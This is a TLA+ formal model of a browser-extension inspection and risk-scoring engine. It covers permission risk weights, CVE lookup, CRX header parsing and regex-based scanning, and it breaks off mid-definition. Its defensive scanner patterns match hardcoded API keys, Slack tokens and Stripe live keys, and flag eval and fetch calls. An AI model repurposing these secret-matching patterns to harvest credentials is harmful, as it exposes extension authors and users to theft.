---------------------------- MODULE Spec2Model ----------------------------
(***************************************************************************)
(* A model of the extension inspection and risk-scoring engine of          *)
(* src/src/lib/analyzer.ts (the latest revision in the file, lines         *)
(* 402-906).                                                               *)
(*                                                                         *)
(* Representation                                                          *)
(*   - JavaScript strings are TLA+ strings; arrays are sequences; an       *)
(*     optional value is a sequence of length 0 or 1.                      *)
(*   - Fractional numbers are fixed-point integers in thousandths          *)
(*     ("milli"): 0.5 is 500, a CVSS score 6.1 is kept in tenths (61).     *)
(*   - Math.log10 / Math.log2 are computed by the binary-logarithm         *)
(*     shift-and-square algorithm on fixed-point integers (Log2Fx).        *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    fn,        \* the exported function being called
    args,      \* its arguments, a record
    ret,       \* its return value: <<>> before the call returns, <<v>> after
    pc,        \* where a call of analyzeExtension stands ("none": no such call)
    data,      \* the bytes for the archive reader (analyzer.ts:443)
    zip,       \* the archive read (analyzer.ts:471)
    manifest,  \* the parsed manifest (analyzer.ts:479), <<>> until it is parsed
    name,      \* analyzer.ts:482, <<>> until it is assigned
    icon,      \* analyzer.ts:488, <<>> while it is undefined
    error,     \* what the promise is rejected with ("" while it is not)
    home,      \* the state of the page component (page.tsx:54-56)
    uploader,  \* the state of the Uploader component (Uploader.tsx:11-12)
    tasks,     \* the calls of the page's handlers that await something
    proxy      \* where a GET of the proxy route stands, and what it has fetched

callVars == <<fn, args, ret>>

runVars == <<pc, data, zip, manifest, name, icon, error>>

webVars == <<home, uploader, tasks, proxy>>

vars == <<callVars, runVars, webVars>>

\* No call of analyzeExtension is under way.
NoRun ==
    /\ pc = "none"
    /\ data = <<>>
    /\ zip = <<>>
    /\ manifest = <<>>
    /\ name = <<>>
    /\ icon = <<>>
    /\ error = ""

\* No page is mounted and no request is being served.
NoWeb ==
    /\ home = <<>>
    /\ uploader = <<>>
    /\ tasks = {}
    /\ proxy = <<>>

-----------------------------------------------------------------------------
(* Numbers *)

Min(a, b) == IF a < b THEN a ELSE b

\* One unit of the fixed-point representation of fractional numbers.
Milli == 1000

\* Fraction bits of the mantissa and of the result of Log2Fx.
MantissaBits == 14

LogBits == 12

RECURSIVE Pow2(_)
Pow2(n) == IF n = 0 THEN 1 ELSE 2 * Pow2(n - 1)

\* 2^MantissaBits: the mantissa 1.0.
MantissaOne == Pow2(MantissaBits)

RECURSIVE FloorLog2(_, _, _)
FloorLog2(n, d, e) == IF 2 * d <= n THEN FloorLog2(n, 2 * d, e + 1) ELSE e

\* The LogBits fraction bits of log2(y / MantissaOne), most significant first:
\* squaring the mantissa doubles its logarithm, whose integer part is the bit.
RECURSIVE LogDigits(_, _, _)
LogDigits(y, i, acc) ==
    IF i > LogBits THEN acc
    ELSE LET sq == (y * y) \div MantissaOne
         IN  IF sq >= 2 * MantissaOne
             THEN LogDigits(sq \div 2, i + 1, 2 * acc + 1)
             ELSE LogDigits(sq, i + 1, 2 * acc)

\* log2(n/d) for n >= d >= 1, as an integer number of 2^-LogBits units.
Log2Fx(n, d) ==
    LET e == FloorLog2(n, d, 0)
        y == (n * MantissaOne) \div (d * Pow2(e))
    IN  LogDigits(y, 1, e)

\* Math.round of a non-negative milli value: the nearest integer, halves up.
MathRound(m) == (m + (Milli \div 2)) \div Milli

\* Number.prototype.toFixed(0) of a non-negative milli value, as a string.
ToFixed0(m) == ToString((m + (Milli \div 2)) \div Milli)

-----------------------------------------------------------------------------
(* calculateDetailedRisk *)

RiskTiers == {"Low", "Medium", "High", "Critical"}

PermissionCap == 40

CveCountCap == 20

CvePoints == 4

CvssWeight == 25

ManifestV2Points == 5

ScoreCap == 100

\* analyzer.ts:810-813, in milli.
PermissionWeight(risk) ==
    CASE risk = "Critical" -> 10 * Milli
      [] risk = "High"     -> 5 * Milli
      [] risk = "Medium"   -> 2 * Milli
      [] risk = "Low"      -> Milli \div 2
      [] OTHER             -> 0

RECURSIVE PermissionSum(_)
PermissionSum(permissions) ==
    IF permissions = <<>> THEN 0
    ELSE PermissionWeight(Head(permissions).risk) + PermissionSum(Tail(permissions))

\* PermissionScore without the clamp.
PermissionScoreUnclamped(permissions) == PermissionSum(permissions)

\* analyzer.ts:808-815, in milli.
PermissionScore(permissions) == Min(PermissionCap * Milli, PermissionSum(permissions))

\* analyzer.ts:818.
CveCountScore(vulnerabilities) == Min(CveCountCap, Len(vulnerabilities) * CvePoints)

\* analyzer.ts:821-824, in tenths: v.score is optional and skipped when
\* absent or 0.
RECURSIVE HighestCVSS(_, _)
HighestCVSS(vulnerabilities, highest) ==
    IF vulnerabilities = <<>> THEN highest
    ELSE LET v == Head(vulnerabilities)
         IN  HighestCVSS(Tail(vulnerabilities),
                 IF "score" \in DOMAIN v /\ v.score # 0 /\ v.score > highest
                 THEN v.score ELSE highest)

\* analyzer.ts:825, in milli: (log10(h + 1) / log10(11)) * 25.
CvssScore(highestCVSS) ==
    (CvssWeight * Milli * Log2Fx(highestCVSS + 10, 10)) \div Log2Fx(11, 1)

\* analyzer.ts:828.
ManifestScore(manifestVersion) == IF manifestVersion = 2 THEN ManifestV2Points ELSE 0

\* TotalScore with Math.floor in place of Math.round.
TotalScoreFloor(sumMilli) == Min(ScoreCap, sumMilli \div Milli)

\* analyzer.ts:830.
TotalScore(sumMilli) == Min(ScoreCap, MathRound(sumMilli))

CriticalThreshold == 75

HighThreshold == 50

MediumThreshold == 25

\* RiskLevelOf with each threshold itself left to the level below.
RiskLevelOfStrict(totalScore) ==
    IF totalScore > CriticalThreshold THEN "Critical"
    ELSE IF totalScore > HighThreshold THEN "High"
    ELSE IF totalScore > MediumThreshold THEN "Medium"
    ELSE "Low"

\* analyzer.ts:832-835.
RiskLevelOf(totalScore) ==
    IF totalScore >= CriticalThreshold THEN "Critical"
    ELSE IF totalScore >= HighThreshold THEN "High"
    ELSE IF totalScore >= MediumThreshold THEN "Medium"
    ELSE "Low"

\* analyzer.ts:837.
RiskEquation(permissionScore, cveCountScore, cvssScore, manifestVersion, manifestScore, obfuscationScore) ==
    "Risk = Permissions(" \o ToFixed0(permissionScore)
        \o ") + CVEs(" \o ToString(cveCountScore)
        \o ") + CVSS(" \o ToFixed0(cvssScore)
        \o ") + MV" \o ToString(manifestVersion)
        \o "(" \o ToString(manifestScore)
        \o ") + Obf(" \o ToString(obfuscationScore) \o ")"

\* analyzer.ts:801-840.
CalculateDetailedRisk(permissions, vulnerabilities, manifestVersion, obfuscationScore) ==
    LET permissionScore == PermissionScore(permissions)
        cveCountScore   == CveCountScore(vulnerabilities)
        cvssScore       == CvssScore(HighestCVSS(vulnerabilities, 0))
        manifestScore   == ManifestScore(manifestVersion)
        totalScore      == TotalScore(permissionScore + cveCountScore * Milli + cvssScore
                                      + manifestScore * Milli + obfuscationScore * Milli)
    IN  [score    |-> totalScore,
         equation |-> RiskEquation(permissionScore, cveCountScore, cvssScore,
                                   manifestVersion, manifestScore, obfuscationScore),
         level    |-> RiskLevelOf(totalScore)]

-----------------------------------------------------------------------------
(* Direct calls of calculateDetailedRisk (as the scoring tests make them) *)

Repeat(x, n) == [i \in 1..n |-> x]

Finding(risk) == [permission |-> "p", risk |-> risk, description |-> ""]

\* Numbers of Critical findings a call is given (the test's 10 among them).
CriticalCounts == {0, 1, 4, 10}

\* Most findings of each other tier a call is given.
MaxPerTier == 2

RiskPermissionInputs ==
    { Repeat(Finding("Critical"), c) \o Repeat(Finding("High"), h)
        \o Repeat(Finding("Medium"), m) \o Repeat(Finding("Low"), l) :
        c \in CriticalCounts, h \in 0..MaxPerTier, m \in 0..MaxPerTier, l \in 0..MaxPerTier }

\* The two records detectVulnerabilities produces, the scoring test's CVE-1,
\* and records with the top score, without a score and with score 0.
VulnerabilityPool ==
    << [id |-> "CVE-2020-11022", severity |-> "Medium", score |-> 61,
        description |-> "Regex in jQuery.htmlPrefilter potentially leads to XSS."],
       [id |-> "CVE-2020-8203", severity |-> "High", score |-> 74,
        description |-> "Prototype pollution in lodash via merge and zipObjectDeep."],
       [id |-> "CVE-1", severity |-> "Critical", score |-> 98, description |-> ""],
       [id |-> "CVE-2", severity |-> "Critical", score |-> 100, description |-> ""],
       [id |-> "CVE-3", severity |-> "Low", description |-> ""],
       [id |-> "CVE-4", severity |-> "Low", score |-> 0, description |-> ""] >>

RECURSIVE Pick(_, _, _)
Pick(seq, keep, i) ==
    IF i > Len(seq) THEN <<>>
    ELSE (IF i \in keep THEN <<seq[i]>> ELSE <<>>) \o Pick(seq, keep, i + 1)

RiskVulnerabilityInputs ==
    { Pick(VulnerabilityPool, keep, 1) : keep \in SUBSET (1..Len(VulnerabilityPool)) }

RiskInputs ==
    [permissions : RiskPermissionInputs, vulnerabilities : RiskVulnerabilityInputs,
     manifestVersion : {2, 3}, obfuscationScore : {0, 5, 10}]

InitRisk ==
    /\ fn = "calculateDetailedRisk"
    /\ args \in RiskInputs
    /\ ret = <<>>
    /\ NoRun
    /\ NoWeb

CallCalculateDetailedRisk ==
    /\ fn = "calculateDetailedRisk"
    /\ ret = <<>>
    /\ ret' = <<CalculateDetailedRisk(args.permissions, args.vulnerabilities,
                                      args.manifestVersion, args.obfuscationScore)>>
    /\ UNCHANGED <<webVars, fn, args, runVars>>

SpecRisk == InitRisk /\ [][CallCalculateDetailedRisk]_vars

-----------------------------------------------------------------------------
(* Strings *)

\* String.prototype.includes.
Includes(s, sub) ==
    \E i \in 1..(Len(s) - Len(sub) + 1) : SubSeq(s, i, i + Len(sub) - 1) = sub

\* String.prototype.startsWith.
StartsWith(s, prefix) == Len(s) >= Len(prefix) /\ SubSeq(s, 1, Len(prefix)) = prefix

\* String.prototype.endsWith.
EndsWith(s, suffix) ==
    Len(s) >= Len(suffix) /\ SubSeq(s, Len(s) - Len(suffix) + 1, Len(s)) = suffix

-----------------------------------------------------------------------------
(* analyzePermissions *)

\* analyzer.ts:577-603.
PERMISSION_MAPPING ==
    [p \in {"activeTab", "alarms", "bookmarks", "browsingData", "clipboardRead",
            "clipboardWrite", "cookies", "debugger", "desktopCapture", "downloads",
            "geolocation", "history", "identity", "management", "notifications",
            "proxy", "sessions", "storage", "tabGroups", "tabs", "topSites",
            "webNavigation", "webRequest", "webRequestBlocking", "<all_urls>"} |->
        CASE p = "activeTab" -> [risk |-> "Low", description |-> "Access the current tab when the user interacts with the extension."]
          [] p = "alarms" -> [risk |-> "Low", description |-> "Schedule code to run at specific times."]
          [] p = "bookmarks" -> [risk |-> "Medium", description |-> "Read and modify browser bookmarks."]
          [] p = "browsingData" -> [risk |-> "High", description |-> "Clear browsing data like cookies and history."]
          [] p = "clipboardRead" -> [risk |-> "High", description |-> "Read data from the clipboard."]
          [] p = "clipboardWrite" -> [risk |-> "Medium", description |-> "Write data to the clipboard."]
          [] p = "cookies" -> [risk |-> "High", description |-> "Access and modify cookies for any website."]
          [] p = "debugger" -> [risk |-> "Critical", description |-> "Use the browser debugger protocol, which allows full control over the browser."]
          [] p = "desktopCapture" -> [risk |-> "High", description |-> "Capture screenshots of the desktop."]
          [] p = "downloads" -> [risk |-> "Medium", description |-> "Manage browser downloads."]
          [] p = "geolocation" -> [risk |-> "Medium", description |-> "Access the user's physical location."]
          [] p = "history" -> [risk |-> "High", description |-> "Read and modify the browser's history."]
          [] p = "identity" -> [risk |-> "Medium", description |-> "Access the user's Google account identity."]
          [] p = "management" -> [risk |-> "High", description |-> "Manage other installed extensions and apps."]
          [] p = "notifications" -> [risk |-> "Low", description |-> "Display desktop notifications."]
          [] p = "proxy" -> [risk |-> "High", description |-> "Manage the browser's proxy settings."]
          [] p = "sessions" -> [risk |-> "High", description |-> "Enumerate and restore open tabs and windows."]
          [] p = "storage" -> [risk |-> "Low", description |-> "Store and retrieve data locally."]
          [] p = "tabGroups" -> [risk |-> "Low", description |-> "Manage tab groups."]
          [] p = "tabs" -> [risk |-> "Medium", description |-> "Access tab metadata like URL and title."]
          [] p = "topSites" -> [risk |-> "Low", description |-> "Access the list of the user's most visited websites."]
          [] p = "webNavigation" -> [risk |-> "Medium", description |-> "Receive notifications about the status of navigation requests."]
          [] p = "webRequest" -> [risk |-> "High", description |-> "Intercept, block, or modify network requests."]
          [] p = "webRequestBlocking" -> [risk |-> "High", description |-> "Block or modify network requests (requires webRequest)."]
          [] p = "<all_urls>" -> [risk |-> "Critical", description |-> "Full access to all websites the user visits."]]

\* PERMISSION_MAPPING is an object literal: a lookup by a name that
\* Object.prototype defines finds the inherited member, which is truthy and
\* has neither a risk nor a description.
ObjectPrototypeKeys ==
    {"constructor", "toString", "toLocaleString", "valueOf", "hasOwnProperty",
     "isPrototypeOf", "propertyIsEnumerable", "__proto__",
     "__defineGetter__", "__defineSetter__", "__lookupGetter__", "__lookupSetter__"}

\* The JavaScript value undefined, where a string is expected.
Undefined == "undefined"

\* analyzer.ts:609, PERMISSION_MAPPING[p]: <<entry>> when truthy, <<>> when not.
MappingLookup(p) ==
    IF p \in DOMAIN PERMISSION_MAPPING THEN <<PERMISSION_MAPPING[p]>>
    ELSE IF p \in ObjectPrototypeKeys THEN <<[risk |-> Undefined, description |-> Undefined]>>
    ELSE <<>>

\* ClassifyPermission testing for a URL pattern before the lookup table.
ClassifyPermissionUrlFirst(p) ==
    IF Includes(p, "://") \/ p = "<all_urls>"
    THEN [permission |-> p,
          risk |-> IF p = "<all_urls>" THEN "Critical" ELSE "High",
          description |-> "Access to data on " \o (IF p = "<all_urls>" THEN "all websites" ELSE p) \o "."]
    ELSE IF MappingLookup(p) # <<>>
    THEN [permission |-> p, risk |-> MappingLookup(p)[1].risk, description |-> MappingLookup(p)[1].description]
    ELSE [permission |-> p, risk |-> "Low", description |-> "Standard extension permission."]

\* analyzer.ts:608-631, the callback of allPermissions.map.
ClassifyPermission(p) ==
    IF MappingLookup(p) # <<>>
    THEN [permission |-> p, risk |-> MappingLookup(p)[1].risk, description |-> MappingLookup(p)[1].description]
    ELSE IF Includes(p, "://") \/ p = "<all_urls>"
    THEN [permission |-> p,
          risk |-> IF p = "<all_urls>" THEN "Critical" ELSE "High",
          description |-> "Access to data on " \o (IF p = "<all_urls>" THEN "all websites" ELSE p) \o "."]
    ELSE [permission |-> p, risk |-> "Low", description |-> "Standard extension permission."]

\* [...new Set(seq)]: the distinct elements in insertion (first-seen) order.
RECURSIVE Distinct(_, _)
Distinct(seq, acc) ==
    IF seq = <<>> THEN acc
    ELSE Distinct(Tail(seq),
             IF \E i \in DOMAIN acc : acc[i] = Head(seq) THEN acc ELSE Append(acc, Head(seq)))

\* AllPermissions without the Set.
AllPermissionsNoSet(permissions, hostPermissions) == permissions \o hostPermissions

\* analyzer.ts:606.
AllPermissions(permissions, hostPermissions) == Distinct(permissions \o hostPermissions, <<>>)

\* analyzer.ts:605-632.
AnalyzePermissions(permissions, hostPermissions) ==
    LET allPermissions == AllPermissions(permissions, hostPermissions)
    IN  [i \in DOMAIN allPermissions |-> ClassifyPermission(allPermissions[i])]

-----------------------------------------------------------------------------
(* Calls of analyzePermissions, with the lists a manifest may declare *)

\* Table keys, a host pattern, an unknown name and a name Object.prototype defines.
PermissionNames == {"tabs", "storage", "<all_urls>", "https://*.example.com/*", "unlimitedStorage", "constructor"}

\* Longest permissions and host_permissions list.
MaxPermissions == 2

RECURSIVE SeqsUpTo(_, _)
SeqsUpTo(S, n) ==
    IF n = 0 THEN {<<>>}
    ELSE LET shorter == SeqsUpTo(S, n - 1)
         IN  shorter \cup {Append(s, x) : s \in {t \in shorter : Len(t) = n - 1}, x \in S}

PermissionInputs ==
    [permissions : SeqsUpTo(PermissionNames, MaxPermissions),
     hostPermissions : SeqsUpTo(PermissionNames, MaxPermissions)]
    \cup [permissions : {<<p>> : p \in DOMAIN PERMISSION_MAPPING}, hostPermissions : {<<>>}]
    \cup [permissions : {<<>>}, hostPermissions : {<<p>> : p \in DOMAIN PERMISSION_MAPPING}]

InitPermissions ==
    /\ fn = "analyzePermissions"
    /\ args \in PermissionInputs
    /\ ret = <<>>
    /\ NoRun
    /\ NoWeb

CallAnalyzePermissions ==
    /\ fn = "analyzePermissions"
    /\ ret = <<>>
    /\ ret' = <<AnalyzePermissions(args.permissions, args.hostPermissions)>>
    /\ UNCHANGED <<webVars, fn, args, runVars>>

SpecPermissions == InitPermissions /\ [][CallAnalyzePermissions]_vars

-----------------------------------------------------------------------------
(* detectVulnerabilities *)

UpperCaseLetters == "ABCDEFGHIJKLMNOPQRSTUVWXYZ"

LowerCaseLetters == "abcdefghijklmnopqrstuvwxyz"

\* String.prototype.toLowerCase of a one-character string.
LowerChar(c) ==
    IF \E i \in 1..Len(UpperCaseLetters) : SubSeq(UpperCaseLetters, i, i) = c
    THEN LET i == CHOOSE k \in 1..Len(UpperCaseLetters) : SubSeq(UpperCaseLetters, k, k) = c
         IN  SubSeq(LowerCaseLetters, i, i)
    ELSE c

\* String.prototype.toLowerCase: character by character, the string halved at
\* each level.
RECURSIVE ToLowerCase(_)
ToLowerCase(s) ==
    IF Len(s) <= 1 THEN LowerChar(s)
    ELSE ToLowerCase(SubSeq(s, 1, Len(s) \div 2)) \o ToLowerCase(SubSeq(s, (Len(s) \div 2) + 1, Len(s)))

\* MapSet pushing onto an array instead of setting a Map key.
MapSetAppend(entries, v) == Append(entries, v)

\* Map.prototype.set on the values of a Map keyed by id, in insertion order: a
\* key already present keeps its place and takes the new value.
MapSet(entries, v) ==
    IF \E i \in DOMAIN entries : entries[i].id = v.id
    THEN [i \in DOMAIN entries |-> IF entries[i].id = v.id THEN v ELSE entries[i]]
    ELSE Append(entries, v)

\* analyzer.ts:781-786.
JqueryVulnerability ==
    [id |-> "CVE-2020-11022", severity |-> "Medium", score |-> 61,
     description |-> "Regex in jQuery.htmlPrefilter potentially leads to XSS."]

\* analyzer.ts:789-794.
LodashVulnerability ==
    [id |-> "CVE-2020-8203", severity |-> "High", score |-> 74,
     description |-> "Prototype pollution in lodash via merge and zipObjectDeep."]

\* analyzer.ts:779-796, the forEach over dependencies.
RECURSIVE VulnerabilitiesMap(_, _)
VulnerabilitiesMap(dependencies, map) ==
    IF dependencies = <<>> THEN map
    ELSE LET dep == ToLowerCase(Head(dependencies))
             m1  == IF Includes(dep, "jquery") THEN MapSet(map, JqueryVulnerability) ELSE map
             m2  == IF Includes(dep, "lodash") THEN MapSet(m1, LodashVulnerability) ELSE m1
         IN  VulnerabilitiesMap(Tail(dependencies), m2)

\* analyzer.ts:776-799.
DetectVulnerabilities(dependencies) == VulnerabilitiesMap(dependencies, <<>>)

-----------------------------------------------------------------------------
(* Calls of detectVulnerabilities *)

DependencyNames ==
    {"jquery-1.js", "jquery-2.js", "jQuery.min.js", "lodash.js", "Lodash-jQuery.js", "react.js"}

\* Longest dependency list.
MaxDependencies == 3

InitVulnerabilities ==
    /\ fn = "detectVulnerabilities"
    /\ args \in [dependencies : SeqsUpTo(DependencyNames, MaxDependencies)]
    /\ ret = <<>>
    /\ NoRun
    /\ NoWeb

CallDetectVulnerabilities ==
    /\ fn = "detectVulnerabilities"
    /\ ret = <<>>
    /\ ret' = <<DetectVulnerabilities(args.dependencies)>>
    /\ UNCHANGED <<webVars, fn, args, runVars>>

SpecVulnerabilities == InitVulnerabilities /\ [][CallDetectVulnerabilities]_vars

-----------------------------------------------------------------------------
(* The container decoder, analyzer.ts:452-469 *)

\* A byte buffer is a sequence of numbers in 0..255.  A 32-bit unsigned value,
\* and the JavaScript number made of two or three of them, is kept as two
\* halves [hi, lo] that stand for hi * 2^16 + lo: a sum of lengths is not
\* wrapped modulo 2^32.
HalfWord == 65536

Num(hi, lo) == [hi |-> hi, lo |-> lo]

NumOf(n) == Num(n \div HalfWord, n % HalfWord)

\* NumAdd wrapped modulo 2^32, as unsigned 32-bit arithmetic adds.
NumAddWrapped(a, b) ==
    Num((a.hi + b.hi + ((a.lo + b.lo) \div HalfWord)) % HalfWord, (a.lo + b.lo) % HalfWord)

NumAdd(a, b) == Num(a.hi + b.hi + ((a.lo + b.lo) \div HalfWord), (a.lo + b.lo) % HalfWord)

\* a < n and a > 0, for a number n below 2^16.
NumLess(a, n) == a.hi = 0 /\ a.lo < n

NumPositive(a) == a.hi > 0 \/ a.lo > 0

\* DataView.prototype.getUint32(byteOffset, true); the caller has checked
\* that byteOffset + 4 <= byteLength.
GetUint32(buffer, byteOffset) ==
    Num(buffer[byteOffset + 3] + 256 * buffer[byteOffset + 4],
        buffer[byteOffset + 1] + 256 * buffer[byteOffset + 2])

\* getUint32 throws a RangeError when the four bytes are not all inside the view.
InView(buffer, byteOffset) == byteOffset + 4 <= Len(buffer)

\* 0x34327243, 'Cr24'.
CrxMagic == Num(13362, 29251)

\* ArrayBuffer.prototype.slice(offset), for 0 < offset < byteLength.
Slice(buffer, offset) == SubSeq(buffer, offset + 1, Len(buffer))

\* HeaderOffset with the version 2 lengths taken for the header size alone.
HeaderOffsetNoFixedPart(buffer, version) ==
    IF version = NumOf(2) THEN NumAdd(GetUint32(buffer, 8), GetUint32(buffer, 12))
    ELSE IF version = NumOf(3) THEN GetUint32(buffer, 8)
    ELSE NumOf(0)

\* analyzer.ts:456-464, for a buffer that holds the fields read.
HeaderOffset(buffer, version) ==
    IF version = NumOf(2) THEN NumAdd(NumOf(16), NumAdd(GetUint32(buffer, 8), GetUint32(buffer, 12)))
    ELSE IF version = NumOf(3) THEN NumAdd(NumOf(12), GetUint32(buffer, 8))
    ELSE NumOf(0)

\* The byte offsets getUint32 is called with after the magic, for a version.
FieldsRead(version) ==
    IF version = NumOf(2) THEN {8, 12} ELSE IF version = NumOf(3) THEN {8} ELSE {}

\* CrxFramed comparing only the low half of the magic (a 16-bit read).
CrxFramedLowHalf(buffer) == Len(buffer) > 4 /\ GetUint32(buffer, 0).lo = CrxMagic.lo

\* analyzer.ts:454.
CrxFramed(buffer) == Len(buffer) > 4 /\ GetUint32(buffer, 0) = CrxMagic

\* analyzer.ts:453-469: [data |-> the bytes for the archive reader], or
\* [error |-> "RangeError"] when a getUint32 reads outside the buffer.
DecodeContainer(buffer) ==
    IF ~CrxFramed(buffer) THEN [data |-> buffer]
    ELSE IF ~InView(buffer, 4) THEN [error |-> "RangeError"]
    ELSE LET version == GetUint32(buffer, 4)
         IN  IF \E o \in FieldsRead(version) : ~InView(buffer, o) THEN [error |-> "RangeError"]
             ELSE LET offset == HeaderOffset(buffer, version)
                  IN  IF NumPositive(offset) /\ NumLess(offset, Len(buffer))
                      THEN [data |-> Slice(buffer, offset.lo)]
                      ELSE [data |-> buffer]

-----------------------------------------------------------------------------
(* Regular expressions, as analyzeSourceCode uses them *)

\* The characters of a string, as a set: a character class.
Chars(str) == {SubSeq(str, i, i) : i \in 1..Len(str)}

Digits == "0123456789"

\* \w
WordChars == Chars(LowerCaseLetters \o UpperCaseLetters \o Digits \o "_")

\* \s (the white space an archive entry of the catalog below may hold)
SpaceChars == Chars(" \t\n\r")

\* A pattern is a sequence of elements: a literal, an alternation of literals,
\* or a character class repeated min..max times (max = -1: unbounded).
Lit(s) == [t |-> "lit", s |-> s]

Alt(S) == [t |-> "alt", s |-> S]

Cls(chars, min, max) == [t |-> "cls", chars |-> chars, min |-> min, max |-> max]

CharAt(s, i) == IF i \in 1..Len(s) THEN SubSeq(s, i, i) ELSE ""

\* The number of characters of the class that follow one another from
\* position i on, at most limit of them (limit = -1: no limit).
ClassRun(s, i, chars, limit) ==
    LET last == IF limit < 0 \/ i + limit > Len(s) THEN Len(s) + 1 ELSE i + limit
        stop == CHOOSE j \in i..last :
                    /\ j = last \/ CharAt(s, j) \notin chars
                    /\ \A k \in i..(j - 1) : CharAt(s, k) \in chars
    IN  IF i > Len(s) THEN 0 ELSE stop - i

\* The positions at which a match of elements k.. of the pattern, begun at
\* position i, may end (the position after its last character).
RECURSIVE MatchEnds(_, _, _, _)
MatchEnds(pattern, k, s, i) ==
    IF k > Len(pattern) THEN {i}
    ELSE LET e == pattern[k]
         IN  CASE e.t = "lit" ->
                    IF i + Len(e.s) - 1 <= Len(s) /\ SubSeq(s, i, i + Len(e.s) - 1) = e.s
                    THEN MatchEnds(pattern, k + 1, s, i + Len(e.s)) ELSE {}
               [] e.t = "alt" ->
                    UNION { MatchEnds(pattern, k + 1, s, i + Len(w)) :
                            w \in {x \in e.s : i + Len(x) - 1 <= Len(s) /\ SubSeq(s, i, i + Len(x) - 1) = x} }
               [] e.t = "cls" ->
                    UNION { MatchEnds(pattern, k + 1, s, i + n) :
                            n \in e.min..ClassRun(s, i, e.chars, e.max) }

SetMax(S) == CHOOSE x \in S : \A y \in S : y <= x

\* RegExp.prototype.test: the pattern matches somewhere in s.
Test(pattern, s) == \E i \in 1..(Len(s) + 1) : MatchEnds(pattern, 1, s, i) # {}

\* String.prototype.match with a global pattern whose only choice is how far
\* its last, greedy class runs.  ScanRange gives the matches that start at
\* positions lo..hi-1 when the search resumes at position pos >= lo, and the
\* position at which it resumes after them; the range is halved at each level.
MatchAll(pattern, s) ==
    LET RECURSIVE ScanRange(_, _, _)
        At(lo, ends) ==
            IF ends = {} THEN [matches |-> <<>>, pos |-> lo + 1]
            ELSE [matches |-> <<SubSeq(s, lo, SetMax(ends) - 1)>>,
                  pos |-> IF SetMax(ends) > lo THEN SetMax(ends) ELSE lo + 1]
        Joined(left, right) == [matches |-> left.matches \o right.matches, pos |-> right.pos]
        Halves(lo, mid, hi, left) ==
            Joined(left, ScanRange(IF left.pos > mid THEN left.pos ELSE mid, mid, hi))
        ScanRange(pos, lo, hi) ==
            IF pos >= hi THEN [matches |-> <<>>, pos |-> pos]
            ELSE IF hi - lo = 1 THEN At(lo, MatchEnds(pattern, 1, s, lo))
            ELSE Halves(lo, (lo + hi) \div 2, hi, ScanRange(pos, lo, (lo + hi) \div 2))
    IN  ScanRange(1, 1, Len(s) + 1).matches

\* String.prototype.trim.
Trim(s) ==
    LET kept == {i \in 1..Len(s) : CharAt(s, i) \notin SpaceChars}
    IN  IF kept = {} THEN "" ELSE SubSeq(s, CHOOSE i \in kept : \A j \in kept : i <= j, SetMax(kept))

\* String.prototype.split on a one-character separator: the pieces of the
\* two halves of the string, the last of the first half joined to the first
\* of the second.
RECURSIVE Split(_, _)
Split(s, sep) ==
    LET Joined(left, right) ==
            SubSeq(left, 1, Len(left) - 1) \o <<left[Len(left)] \o right[1]>> \o Tail(right)
    IN  IF s = "" THEN <<"">>
        ELSE IF Len(s) = 1 THEN (IF s = sep THEN <<"", "">> ELSE <<s>>)
        ELSE Joined(Split(SubSeq(s, 1, Len(s) \div 2), sep), Split(SubSeq(s, (Len(s) \div 2) + 1, Len(s)), sep))

\* SetAdd keeping a value every time it is added.
SetAddAlways(seq, x) == Append(seq, x)

\* new Set(...).add on a Set kept as the sequence of its values in insertion order.
SetAdd(seq, x) == IF \E i \in DOMAIN seq : seq[i] = x THEN seq ELSE Append(seq, x)

RECURSIVE SetAddAll(_, _)
SetAddAll(seq, xs) == IF xs = <<>> THEN seq ELSE SetAddAll(SetAdd(seq, Head(xs)), Tail(xs))

-----------------------------------------------------------------------------
(* analyzeSourceCode *)

\* analyzer.ts:651-663.
API_PATTERNS ==
    << <<Lit("chrome."), Cls(WordChars, 1, -1)>>,
       <<Lit("browser."), Cls(WordChars, 1, -1)>>,
       <<Lit("fetch"), Cls(SpaceChars, 0, -1), Lit("(")>>,
       <<Lit("XMLHttpRequest")>>,
       <<Lit("eval"), Cls(SpaceChars, 0, -1), Lit("(")>>,
       <<Lit("setTimeout"), Cls(SpaceChars, 0, -1), Lit("("), Cls(SpaceChars, 0, -1), Alt({"'", "\""})>>,
       <<Lit("localStorage")>>,
       <<Lit("sessionStorage")>>,
       <<Lit("indexedDB")>>,
       <<Lit("connect"), Cls(SpaceChars, 0, -1), Lit("(")>>,
       <<Lit("sendMessage"), Cls(SpaceChars, 0, -1), Lit("(")>> >>

\* analyzer.ts:665-670.  The first pattern ignores case: it is written in
\* lower case and tried on the lower-cased content.
SECRET_PATTERNS ==
    << [ignoreCase |-> TRUE,
        pattern |-> <<Alt({"key", "token", "secret", "password", "auth", "api_key", "client_id", "client_secret"}),
                      Cls(SpaceChars, 0, -1), Alt({":", "="}), Cls(SpaceChars, 0, -1), Alt({"'", "\""}),
                      Cls(WordChars \cup {"-"}, 10, -1), Alt({"'", "\""})>>],
       [ignoreCase |-> FALSE,
        pattern |-> <<Lit("AIza"), Cls(WordChars \cup {"-"}, 35, 35)>>],
       [ignoreCase |-> FALSE,
        pattern |-> <<Lit("xox"), Alt({"b", "p", "g", "r"}), Lit("-"), Cls(Chars(Digits), 12, 12), Lit("-"),
                      Cls(Chars(Digits), 12, 12), Lit("-"), Cls(Chars(Digits), 12, 12), Lit("-"),
                      Cls(Chars(LowerCaseLetters \o Digits), 32, 32)>>],
       [ignoreCase |-> FALSE,
        pattern |-> <<Lit("sk_live_"), Cls(Chars(Digits \o LowerCaseLetters \o UpperCaseLetters), 24, 24)>>] >>

\* analyzer.ts:672-680: <library>[\w.-]*\.js, ignoring case.
DEPENDENCY_PATTERNS ==
    [i \in 1..7 |->
        <<Lit(<<"jquery", "react", "vue", "angular", "lodash", "moment", "bootstrap">>[i]),
          Cls(WordChars \cup {".", "-"}, 0, -1), Lit(".js")>>]

\* analyzer.ts:701.
IdentifierPattern ==
    <<Cls(Chars(LowerCaseLetters \o UpperCaseLetters \o "_$"), 1, 1),
      Cls(Chars(LowerCaseLetters \o UpperCaseLetters \o Digits \o "_$"), 0, -1)>>

\* analyzer.ts:703, /^_0x[a-f0-9]+/.
HexNamePattern == <<Lit("_0x"), Cls(Chars("abcdef" \o Digits), 1, -1)>>

\* analyzer.ts:710, /_0x[a-f0-9]{4,6}\s*=\s*\[/.
ObfuscatorArrayPattern ==
